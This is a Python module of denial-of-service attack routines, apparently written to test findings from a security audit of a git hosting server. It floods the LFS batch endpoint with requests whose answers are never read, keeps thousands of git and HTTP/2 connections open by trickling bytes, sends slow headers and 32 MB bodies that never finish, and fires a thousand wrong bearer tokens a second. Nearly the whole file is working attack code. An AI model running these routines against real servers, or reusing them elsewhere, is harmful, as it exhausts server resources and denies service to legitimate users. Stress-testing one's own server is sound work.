"""Attacks on the doors: connections, requests that do not end, answers that nobody reads."""

import gzip
import itertools
import json

from attacks import stage, wire


def lfs_batches(attack):
    """Finding 4: batches of a thousand objects. The answers, never read, repeat a header for each."""
    request, asked = lfs_request(), []
    while attack.goes_on() and len(asked) < 250:
        with attack.tolerant():
            s = wire.connect(attack.address(), attack.http_port, window=4096)
            s.sendall(request)
            asked.append(s)
        attack.pause(0.02)
    attack.rest()


LFS = "application/vnd.git-lfs+json"
TOKEN = "Bearer " + "a" * 1000


def lfs_body():
    return json.dumps(
        {"operation": "download", "objects": [{"oid": oid, "size": 1} for oid in stage.lfs_oids()]}
    ).encode()


def lfs_request():
    return wire.post("/lfs/info/lfs/objects/batch", lfs_body(), LFS, [f"Authorization: {TOKEN}"], packed=True)


def streams(attack, ask, connections, pause):
    """Asks over HTTP/2, 32 requests a connection, and lets nothing of an answer's body come."""
    open_ones, numbers = [], itertools.count()
    while attack.goes_on():
        if len(open_ones) < connections:
            with attack.tolerant():
                open_ones.append(wire.H2(attack.address(), attack.http_port))
                for _ in range(32):
                    ask(open_ones[-1], next(numbers))
        attack.pause(pause)
        with attack.tolerant():
            open_ones = [connection for connection in open_ones if connection.listen()]


def lfs_streams(attack):
    """The same over HTTP/2."""
    body = gzip.compress(lfs_body())
    headers = [("authorization", TOKEN), ("content-encoding", "gzip")]
    streams(
        attack,
        lambda connection, _: connection.ask("/lfs/info/lfs/objects/batch", body, LFS, headers),
        60,
        0.3,
    )


def open_lists(attack):
    """Finding 5: lists of 200,000 refs that nobody reads, of v0 and v2."""
    asked = []
    while attack.goes_on():
        while len(asked) < 250:
            with attack.tolerant():
                s = wire.connect(attack.address(), attack.git_port, window=4096)
                version = 2 * (len(asked) % 2)
                s.sendall(
                    wire.greeting("refs", version)
                    + (wire.command("ls-refs", "peel", "symrefs") if version else b"")
                )
                asked.append(s)
                continue
            break
        asked = [s for s in asked if wire.is_open(s)]
        attack.pause(1)


def read_once(attack):
    """Has the repository opened, and reads its list."""
    with wire.connect(attack.address(), attack.git_port) as s:
        s.sendall(wire.greeting("refs", 0))
        wire.drain(s, attack.until)


def unread_lists(attack):
    """The same once the repository is open."""
    read_once(attack)
    open_lists(attack)


def own_lists(attack):
    """The same over HTTP/2, no two lists alike."""
    read_once(attack)
    body = lambda number: wire.command(
        "ls-refs", "peel", "ref-prefix refs/tags/", f"ref-prefix refs/none/{number}"
    )
    streams(
        attack, lambda connection, number: connection.ask("/refs/git-upload-pack", body(number)), 100, 0.1
    )


def begun_bodies(attack):
    """Bodies of just less than what counts, begun over HTTP/2 and not ended."""
    body = wire.pkt("command=fetch") + b"0001" + wire.pkt(f"have {7:040x}") * 1310
    streams(
        attack,
        lambda connection, _: connection.ask("/healthy/git-upload-pack", body[:65_000], is_whole=False),
        900,
        0.02,
    )


def held_connections(attack):
    """Finding 15: eight addresses hold up to 3,000 conversations of v0, and send each a byte every 5 s."""
    line = wire.pkt(f"want {attack.given['tip']} multi_ack_detailed\n")
    held, at = [], 0
    while attack.goes_on():
        for _ in range(2000):
            if len(held) >= 3000 or not attack.goes_on():
                break
            with attack.tolerant():
                s = wire.connect(attack.address(), attack.git_port)
                s.sendall(wire.greeting("healthy", 0))
                held.append(s)
        attack.pause(5)
        for s in held:
            while wire.read_some(s, 1 << 16):
                pass
            with attack.tolerant():
                s.send(line[at : at + 1])
        at += at + 1 < len(line)
        held = [s for s in held if wire.is_open(s)]


def room(attack):
    """Finding 16: nine requests of 32 MB that do not come to their end, a byte now and then."""
    piece, bodies = b"0" * (1 << 20), []
    head = wire.post("/healthy/git-upload-pack", b"", length=32 << 20)
    while attack.goes_on():
        while len(bodies) < 9 and attack.goes_on():
            with attack.tolerant():
                s = wire.connect(attack.address(), attack.http_port)
                s.sendall(head)
                for _ in range(31):
                    s.sendall(piece)
                bodies.append(s)
                continue
            break
        for s in bodies:
            with attack.tolerant():
                s.send(b"0")
        bodies = [s for s in bodies if wire.is_open(s)]
        attack.pause(2)


def slow_heads(attack):
    """Heads of requests that come a byte a second."""
    heads = []
    while attack.goes_on():
        for _ in range(1100 - len(heads)):
            with attack.tolerant():
                s = wire.connect(attack.address(), attack.http_port)
                s.sendall(b"GET /healthy/info/refs?service=git-upload-pack HTTP/1.1\r\nX: ")
                heads.append(s)
        attack.pause(1)
        for s in heads:
            with attack.tolerant():
                s.send(b"x")
        heads = [s for s in heads if wire.is_open(s)]


def wrong_tokens(attack):
    """A thousand wrong tokens a second."""
    numbers, s = itertools.count(), None
    line = (
        "GET /hidden/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: x\r\n"
        "Authorization: Bearer {}\r\n\r\n"
    )
    while attack.goes_on():
        with attack.tolerant():
            s = s or wire.connect(attack.address(), attack.http_port)
            s.sendall("".join(line.format(next(numbers)) for _ in range(50)).encode())
            while wire.read_some(s, 1 << 20):
                pass
            attack.pause(0.05)
            continue
        s = None
        attack.pause(0.05)


def prepare_held():
    return {"tip": stage.git(stage.upstream("healthy"), "rev-parse", "main")}


ATTACKS = [
    ("lfs", "4: LFS batches, answers not read", lfs_batches, ["lfs"], dict, 1),
    ("lfs-streams", "4: LFS batches over HTTP/2, answers not read", lfs_streams, ["lfs"], dict, 1),
    ("opened", "5: lists of 200,000 refs, 250 at once, after a start", open_lists, ["refs"], dict, 1),
    ("lists", "5: the same of a repository that is open", unread_lists, ["refs"], dict, 1),
    (
        "own-lists",
        "5: lists of 200,000 refs over HTTP/2, no two alike, not read",
        own_lists,
        ["refs"],
        dict,
        1,
    ),
    ("bodies", "5: bodies of 64 KB begun over HTTP/2", begun_bodies, [], dict, 4),
    ("descriptors", "15: 3,000 conversations, a byte in 5 s", held_connections, [], prepare_held, 8),
    ("room", "16: nine requests of 32 MB that do not end", room, [], dict, 1),
    ("heads", "heads of requests, a byte a second, 1,100 at once", slow_heads, [], dict, 4),
    ("tokens", "wrong tokens, 1,000 a second", wrong_tokens, [], dict, 1),
]
